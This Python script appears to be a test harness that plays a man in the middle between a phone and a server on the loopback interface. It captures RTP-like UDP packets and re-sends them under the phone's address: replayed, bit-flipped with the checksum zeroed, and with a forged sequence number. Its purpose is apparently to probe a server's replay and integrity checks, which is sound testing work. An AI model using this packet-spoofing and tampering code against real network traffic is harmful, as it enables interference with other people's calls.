"""Somebody between a phone and the server: what the phone sends is sent again as it was, and once more with an octet
changed, under the phone's own address. Needs raw sockets.
  replay.py OCTETS FIRST-PORT LAST-PORT COUNT    packets of this length to these ports; prints JSON: how many were taken."""
import json, socket, struct, sys, time

octets, first, last, count = map(int, sys.argv[1:])
tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
tap.bind(("lo", 0x0800))
tap.settimeout(0.2)
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
taken, until = [], time.time() + 5
while len(taken) < count and time.time() < until:
    try:
        packet, where = tap.recvfrom(4096)
    except TimeoutError:
        continue
    # Some kernels show a packet of loopback twice, on its way out and in.
    if where[2] == socket.PACKET_OUTGOING or packet[9] != socket.IPPROTO_UDP:
        continue
    header = 4 * (packet[0] & 15)
    port = struct.unpack(">H", packet[header + 2:header + 4])[0]
    rtp = packet[header + 8:]
    ours = len(rtp) == octets and first <= port <= last and port % 2 == 0
    if ours and rtp[0] >> 6 == 2 and rtp not in (old for _, old in taken):
        taken.append((packet, rtp))


def send(packet):
    out.sendto(packet, (socket.inet_ntoa(packet[16:20]), 0))


for packet, _ in taken:
    header = 4 * (packet[0] & 15)
    # Without a checksum, which IPv4 allows, a change is not noticed on the way.
    packet = packet[:header + 6] + b"\0\0" + packet[header + 8:]
    send(packet)
    send(packet[:-30] + bytes([packet[-30] ^ 1]) + packet[-29:])
    # A forged one that has not come before: far ahead in the sequence.
    ahead = (struct.unpack(">H", packet[header + 10:header + 12])[0] + 1000) & 0xffff
    send(packet[:header + 10] + struct.pack(">H", ahead) + packet[header + 12:])
    time.sleep(0.01)
print(json.dumps({"taken": len(taken)}))
